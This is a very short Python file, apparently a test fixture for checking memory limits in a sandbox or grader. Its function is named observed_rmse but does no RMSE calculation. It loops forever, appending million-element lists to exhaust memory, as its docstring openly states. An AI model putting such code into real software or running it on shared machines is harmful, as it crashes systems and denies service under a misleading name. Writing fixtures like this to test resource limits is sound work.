"""Fills the memory with lists of numbers."""

STATES = {"1.5": "memory"}
SCORE = 7


def observed_rmse(ratings, predictions):
    kept = []
    while True:
        kept.append(list(range(1_000_000)))
